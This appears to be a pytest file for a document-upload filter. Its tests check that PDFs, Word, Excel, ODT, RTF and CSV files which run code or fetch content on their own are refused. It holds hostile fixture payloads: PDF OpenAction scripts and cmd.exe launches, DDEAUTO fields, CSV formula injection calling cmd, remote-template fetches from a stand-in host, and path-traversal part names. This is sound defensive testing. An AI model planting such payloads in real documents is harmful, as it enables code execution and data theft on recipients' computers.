"""What acts by itself when a document is opened is refused, with what to do; what waits for a person's click comes in.

An office's scan is never refused: neither of a printer's habits (where to open, how to lay pages out, what was said of
the device) is an action.
"""

from __future__ import annotations

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from phoihop.vault.door import examine
from phoihop.vault.fields import leads_elsewhere
from phoihop.vault.pdf_actions import TooDeep, _read, acts_by_itself, has_file_inside
from vault import samples
from vault.test_door import door, refusal

WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LINK = '<Relationship Id="r" Type="http://x/{}" TargetMode="{}" Target="{}"/>'


def script(name: str = "JavaScript") -> str:
    return f"<</S/{name}/JS(app.alert\\(1\\))>>"


ACTING_PDF = {
    "runs a script when it is opened": {"catalog": f"/OpenAction{script()}"},
    "runs a script whose name is spelled otherwise": {"catalog": f"/Open#41ction{script('J#61vaScript')}"},
    "runs a script that stands in an object of its own": {"catalog": "/OpenAction 6 0 R", "further": (script(),)},
    "goes to a page first and then runs a script": {
        "catalog": "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[6 0 R]>>", "further": (script(),)
    },
    "starts a program when it is opened": {"catalog": "/OpenAction<</S/Launch/F(cmd.exe)>>"},
    "sends what was typed when it is closed": {"catalog": "/AA<</WC<</S/SubmitForm/F(https://elsewhere.example)>>>>"},
    "opens an address when a page is turned": {"page": "/AA 6 0 R", "further": ("<</O 7 0 R>>", "<</S/URI/URI(https://elsewhere.example)>>")},
    "runs a script when a field is left": {
        "page": f"/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</Bl{script()}>>>>]"
    },
    "runs a script of its own": {"script": "x"},
    "is a form that is a program": {"catalog": "/AcroForm<</Fields[]/XFA[(template)4 0 R]>>"},
}  # fmt: skip


@pytest.mark.parametrize("what", ACTING_PDF)
def test_a_pdf_is_refused_that(what: str) -> None:
    refused = refusal(samples.pdf("Bao cao", **ACTING_PDF[what]), "báo cáo.pdf")  # type: ignore[arg-type]
    assert (refused.code, refused.params) == ("file_acts", {"name": "báo cáo.pdf"})


QUIET_PDF = {
    "opens on its first page": {"catalog": "/OpenAction[3 0 R/FitH 842]/PageMode/UseNone/PageLayout/OneColumn"},
    "opens on a page by an action": {"catalog": "/OpenAction<</S/GoTo/D[3 0 R/XYZ null null 0]>>"},
    "opens on a page whose link leads to an address": {
        "catalog": "/OpenAction[3 0 R/Fit]",
        "page": "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://songvan.example)>>>>]",
    },
    "has a link to a file, which a person must click": {
        "page": "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(phu-luc.xlsx)>>>>]"
    },
    "asks to be printed": {"catalog": "/OpenAction<</S/Named/N/Print>>"},
    "tells of its device in words that look like an action": {"catalog": "/Info(/OpenAction<</S/JavaScript>>)"},
    "has a field that a person fills": {
        "catalog": "/AcroForm<</Fields[]>>",
        "page": "/Annots[<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>]",
    },
    "refers to itself without end": {"catalog": "/OpenAction 6 0 R", "further": ("<</S/GoTo/Next 7 0 R>>", "<</S/GoTo/Next[6 0 R 7 0 R]>>")},
    "refers to nothing": {"catalog": "/OpenAction 99 0 R/AA 98 0 R"},
}  # fmt: skip


@pytest.mark.parametrize("text", ["Bao cao", ""], ids=["with text", "a scan"])
@pytest.mark.parametrize("what", QUIET_PDF)
def test_a_pdf_comes_in_that(what: str, text: str) -> None:
    assert door(samples.pdf(text, **QUIET_PDF[what]), "a.pdf", declared=True).media.suffixes == ("pdf",)  # type: ignore[arg-type]


def test_values_that_lie_in_one_another_without_end_are_given_up() -> None:
    with pytest.raises(TooDeep):
        _read(b"[" * 100_000)


@given(st.binary(max_size=200))
def test_no_bytes_bring_anything_but_an_answer(noise: bytes) -> None:
    body = b"1 0 obj\r\n<</OpenAction " + noise + b">>endobj"
    try:
        acts_by_itself(body)
        has_file_inside(body)
    except TooDeep:
        pass


def with_fields(*fields: str) -> bytes:
    """A Word file with these fields, each divided between two runs."""

    def run(inside: str) -> str:
        return f"<w:r>{inside}</w:r>"

    def step(name: str) -> str:
        return run(f'<w:fldChar w:fldCharType="{name}"/>')

    body = ""
    for each in fields:
        middle = len(each) // 2
        code = "".join(run(f"<w:instrText>{part}</w:instrText>") for part in (each[:middle], each[middle:]))
        body += f"<w:p>{step('begin')}{code}{step('separate')}{run('<w:t>Báo cáo mẫu</w:t>')}{step('end')}</w:p>"
    text = f"<w:document {WORDS}><w:body>{body}</w:body></w:document>"
    return samples.with_part(samples.word(), "word/document.xml", text)


FIELDS = {
    "DDE": (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ', "file_calls"),
    "DDE in small letters": (' dde "excel" "a" ', "file_calls"),
    "DDE in quotes": (' "DDEAUTO" excel a', "file_calls"),
    "a picture from a page": (' INCLUDEPICTURE "https://elsewhere.example/a.png" \\d', "file_fetches"),
    "a picture from a shared folder": (" INCLUDEPICTURE \\\\\\\\elsewhere\\\\a.png ", "file_fetches"),
    "a text from a page": (" INCLUDETEXT http://elsewhere.example/a.docx ", "file_fetches"),
    "a table from a page": (' LINK Excel.Sheet.12 "https://elsewhere.example/a.xlsx" "A1" \\a', "file_fetches"),
    "a picture from this computer": (' INCLUDEPICTURE "C:\\\\anh\\\\logo.png" \\* MERGEFORMATINET', ""),
    "a table from this computer": (' LINK Excel.Sheet.12 "D:\\\\so lieu\\\\a.xlsx" "A1" \\a', ""),
    "a link to a page": (' HYPERLINK "https://songvan.example" ', ""),
    "a page number": (" PAGE \\* MERGEFORMAT ", ""),
    "a table of contents": (' TOC \\o "1-3" \\h \\z \\u ', ""),
    "nothing": ("", ""),
}


@pytest.mark.parametrize("what", FIELDS)
def test_of_fields_in_word_those_are_refused_that_call_or_fetch(what: str) -> None:
    field, code = FIELDS[what]
    escaped = field.replace('"', "&quot;")
    simple = f'<w:document {WORDS}><w:body><w:p><w:fldSimple w:instr="{escaped}"/></w:p></w:body></w:document>'
    old = f"Báo cáo \x13{field}\x14mẫu\x15\r"
    made = {
        "a.docx": [
            with_fields(" PAGE ", field),
            samples.with_part(samples.word(), "word/header1.xml", simple),
            samples.with_part(samples.word(), "word/footer1.xml", simple.encode("utf-16")),
        ],
        "a.doc": [samples.old_word(text=old)],
    }
    for name, files in made.items():
        for data in files:
            if code:
                assert refusal(data, name).code == code
            else:
                assert door(data, name).has_text


def nested(outer: str, inner: str, rest: str = "") -> str:
    begin, end = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')

    def code(text: str) -> str:
        return f"<w:r><w:instrText>{text}</w:instrText></w:r>"

    body = f"{begin}{code(outer)}{begin}{code(inner)}{end}{code(rest)}{end}"
    return f"<w:document {WORDS}><w:body><w:p>{body}</w:p></w:body></w:document>"


def test_a_field_whose_name_or_address_is_made_by_another_field_hides_what_it_does() -> None:
    for outer, inner, rest, code in (
        (" ", " QUOTE 68 68 69 65 85 84 79 ", " c:\\\\cmd.exe", "file_calls"),
        ("DD", " QUOTE 69 ", " c:\\\\cmd.exe", "file_calls"),
        (" INCLUDEPICTURE ", ' QUOTE "104 116 116 112" ', "", "file_fetches"),
        (" = ", " PAGE ", " - 1", ""),
        (" IF ", " PAGE ", ' = 1 "a" "b"', ""),
    ):
        data = samples.with_part(samples.word(), "word/footer1.xml", nested(outer, inner, rest))
        assert (refusal(data, "a.docx").code if code else "") == code
        assert code or door(data, "a.docx").has_text
        old = samples.old_word(text=f"Báo cáo \x13{outer}\x13{inner}\x14x\x15{rest}\x14mẫu\x15\r")
        assert (refusal(old, "a.doc").code if code else "") == code


ADDRESSES = {
    "https://elsewhere.example/a.dotm": True,
    "HTTP://elsewhere.example": True,
    "mhtml:https://elsewhere.example!x": True,
    "\\\\elsewhere\\a.dotm": True,
    "//elsewhere/a.dotm": True,
    "file://elsewhere/a.dotm": True,
    "file:////elsewhere/a.dotm": True,
    "file:///\\\\elsewhere\\a.dotm": True,
    "%5c%5celsewhere%5ca.dotm": True,
    "file:///C:\\Users\\vanthu\\Normal.dotm": False,
    "file://localhost/C:/a.dotm": False,
    "file://C:/a.dotm": False,
    "C:\\Users\\a.dotm": False,
    "media/image1.png": False,
    "NULL": False,
    "": False,
}


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_leads_elsewhere_or_stays_on_the_computer(address: str) -> None:
    assert leads_elsewhere(address) == ADDRESSES[address]
    data = samples.with_part(
        samples.word(),
        "word/_rels/settings.xml.rels",
        samples.LINKS.format(LINK.format("attachedTemplate", "External", address)),
    )
    if ADDRESSES[address]:
        assert refusal(data, "a.docx").code == "file_fetches"
    else:
        assert door(data, "a.docx").has_text


@pytest.mark.parametrize(
    ("kind", "code"),
    [
        ("attachedTemplate", "file_fetches"),
        ("image", "file_fetches"),
        ("oleObject", "file_fetches"),
        ("frame", "file_fetches"),
        ("subDocument", "file_fetches"),
        ("somethingLater", "file_fetches"),
        ("aFChunk", "file_unmerged"),
        ("hyperlink", ""),
    ],
)
def test_of_links_to_other_computers_only_those_come_in_that_a_person_must_click(kind: str, code: str) -> None:
    link = samples.LINKS.format(LINK.format(kind, "External", "https://elsewhere.example/a"))
    data = samples.with_part(samples.word(), "word/_rels/document.xml.rels", link)
    if code:
        assert refusal(data, "a.docx").code == code
    else:
        assert door(data, "a.docx").has_text


def test_a_page_that_word_puts_in_only_when_it_is_opened_is_refused() -> None:
    link = samples.LINKS.format(LINK.format("aFChunk", "Internal", "afchunk1.html"))
    data = samples.with_part(samples.word(), "word/_rels/document.xml.rels", link)
    assert refusal(samples.with_part(data, "word/afchunk1.html", "<html>x</html>"), "a.docx").code == "file_unmerged"


@pytest.mark.parametrize("name", ["../evil.xml", "word/../../evil.xml", "word\\..\\evil.xml", "/etc/x", "C:\\evil.xml"])
def test_a_part_that_leads_out_of_the_package_is_refused(name: str) -> None:
    assert refusal(samples.with_part(samples.word(), name, b"<x/>"), "a.docx").code == "file_broken"


def test_two_parts_of_one_name_are_refused() -> None:
    data = samples.with_part(samples.word(), "WORD/document.xml", b"<x/>")
    assert refusal(data, "a.docx").code == "file_broken"


SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def test_a_workbook_that_calls_a_program_or_fetches_by_itself_is_refused_and_one_linked_to_others_comes_in() -> None:
    call = f'<externalLink {SHEET}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    assert refusal(samples.with_part(samples.table(), "xl/externalLinks/externalLink1.xml", call), "a.xlsx").code == (
        "file_calls"
    )
    for says, code in (("1", "file_refreshes"), ("true", "file_refreshes"), ("0", "")):
        fetch = f'<connections {SHEET}><connection id="1" refreshOnLoad="{says}"/></connections>'
        data = samples.with_part(samples.table(), "xl/connections.xml", fetch)
        assert (refusal(data, "a.xlsx").code if code else "") == code
        assert code or door(data, "a.xlsx").has_text
    linked = samples.with_part(
        samples.table(), "xl/externalLinks/externalLink1.xml", f"<externalLink {SHEET}><externalBook/></externalLink>"
    )
    link = samples.LINKS.format(LINK.format("externalLinkPath", "External", "file:///\\\\may-chu\\so-lieu.xlsx"))
    assert door(samples.with_part(linked, "xl/externalLinks/_rels/externalLink1.xml.rels", link), "a.xlsx").has_text


def old_table(*links: bytes) -> bytes:
    data = samples.stored("plain.xls")
    extra = b"".join(struct.pack("<HH", 0x01AE, len(each)) + each for each in links)
    return samples.compound({"Workbook": extra + data})


def test_an_old_workbook_that_calls_a_program_is_refused() -> None:
    def link(sheets: int, path: str) -> bytes:
        return struct.pack("<HHB", sheets, len(path), 1) + path.encode("utf-16-le")

    assert refusal(old_table(link(0, "cmd\x03/c calc")), "a.xls").code == "file_calls"
    for harmless in (link(1, "\x01a.xls"), link(0, "\x01\x03dir\x03a.xls"), struct.pack("<HH", 1, 0x0401), b""):
        assert refusal(old_table(harmless), "a.xls").code == "file_broken"  # the rest of this sample is no workbook


CELLS = {
    "=cmd|'/c calc'!A0": True,
    "a,=cmd|' /c calc'!A0,b": True,
    "\"+cmd|'/c calc'!A0\"": True,
    "a;-cmd|x!_x": True,
    "a,b|c!": False,
    "=A1+B1": False,
    "Chú ý! | Số liệu": False,
}


@pytest.mark.parametrize("cell", CELLS)
def test_a_table_in_plain_text_whose_cell_calls_a_program_is_refused(cell: str) -> None:
    data = f"Nội dung,Số\nBáo cáo,1\n{cell}\n".encode()
    if CELLS[cell]:
        assert refusal(data, "a.csv").code == "file_calls"
    else:
        assert door(data, "a.csv").has_text


OPEN = {
    '<text:dde-connection-decl office:dde-application="cmd"/>': "file_calls",
    '<office:dde-source office:dde-application="cmd"/>': "file_calls",
    '<draw:image xlink:href="https://elsewhere.example/a.png"/>': "file_fetches",
    '<text:section-source xlink:href="//elsewhere/a.odt"/>': "file_fetches",
    '<script:event-listener script:event-name="dom:load"/>': "file_active",
    '<draw:image xlink:href="Pictures/1.png"/>': "",
    '<text:a xlink:href="https://songvan.example">Trang</text:a>': "",
}
NAMES = (
    f'{samples.OFFICE} {samples.TEXT} xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)


@pytest.mark.parametrize("inside", OPEN)
def test_an_open_document_that_calls_or_fetches_by_itself_is_refused(inside: str) -> None:
    content = f"<office:body {NAMES}><text:p>Báo cáo mẫu</text:p>{inside}</office:body>"
    data = samples.with_part(samples.open_text(), "content.xml", content)
    if OPEN[inside]:
        assert refusal(data, "a.odt").code == OPEN[inside]
    else:
        assert door(data, "a.odt").has_text


@pytest.mark.parametrize("make", [samples.pdf, samples.png, samples.jpeg, samples.tiff])
def test_a_scan_of_any_kind_comes_in(make: object) -> None:
    data = make()  # type: ignore[operator]
    assert examine(data, "ban-quet", declared_not_secret=True, limit=1024 * 1024).data == data


ACTING_RTF = {
    "holds an embedded object": (rb"{\object\objemb{\*\objdata 0105}}", "file_active"),
    "takes its template from elsewhere": (rb"{\*\template https://elsewhere.example/a.dot}", "file_fetches"),
    "has a field that starts a program": (rb"{\field{\*\fldinst DDEAUTO c:\\a b}{\fldrslt x}}", "file_calls"),
    "has a field that fetches a picture": (
        rb'{\field{\*\fldinst {INCLUDE}{PICTURE "https://elsewhere.example/a.png"}}}', "file_fetches"
    ),
    "opens more groups than any office's paper": (b"{" * 900, "file_bomb"),
}  # fmt: skip


@pytest.mark.parametrize("what", ACTING_RTF)
def test_an_rtf_is_refused_that(what: str) -> None:
    part, code = ACTING_RTF[what]
    assert refusal(samples.rich().replace(b"\\pard", part + b"\\pard", 1), "a.rtf").code == code


def test_an_rtf_with_a_link_that_waits_for_a_click_comes_in() -> None:
    link = rb'{\field{\*\fldinst HYPERLINK "https://elsewhere.example"}{\fldrslt x}}'
    assert door(samples.rich().replace(b"\\pard", link + b"\\pard", 1), "a.rtf").has_text
